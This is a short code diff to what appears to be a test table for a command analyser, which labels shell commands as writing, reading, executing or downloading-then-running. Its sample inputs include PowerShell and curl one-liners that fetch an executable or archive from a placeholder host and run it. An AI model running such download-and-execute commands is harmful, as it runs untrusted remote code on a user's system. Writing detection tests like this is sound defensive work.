@@ -406,6 +406,7 @@ DOWNLOADS: list[tuple[str, list[Row]]] = [
         r"iwr https://x.example/x.exe -OutFile C:\Temp\x.exe; C:\Temp\x.exe",
         [
             _e(K.WRITE, r"C:\Temp\x.exe", "Invoke-WebRequest -OutFile"),
+            _e(K.EXECUTE, r"C:\Temp\x.exe", "started from its path"),  # S-RULE-164
             _e(K.DOWNLOAD_EXECUTE, "https://x.example/x.exe", "download then run (invoke-webrequest + x)"),
         ],
     ),
@@ -416,6 +417,7 @@ DOWNLOADS: list[tuple[str, list[Row]]] = [
             _e(K.WRITE, r"C:\Temp\x.zip", "Invoke-WebRequest -OutFile"),
             _e(K.READ, r"C:\Temp\x.zip", "Expand-Archive", ALL),
             _e(K.WRITE, r"C:\Temp\x", "Expand-Archive destination", UNPACKED),
+            _e(K.EXECUTE, r"C:\Temp\x\setup.exe", "started from its path"),
             _e(K.DOWNLOAD_EXECUTE, "https://x.example/x.zip", "download then run (invoke-webrequest + setup)"),
         ],
     ),
@@ -425,6 +427,7 @@ DOWNLOADS: list[tuple[str, list[Row]]] = [
             _e(K.WRITE, "a.zip", "curl -o"),
             _e(K.READ, "a.zip", "tar -x"),
             _e(K.WRITE, ".", "tar -x", UNPACKED),
+            _e(K.EXECUTE, r".\run.exe", "started from its path"),
             _e(K.DOWNLOAD_EXECUTE, "https://x.example/a.zip", "download then run (curl + run)"),
         ],
     ),
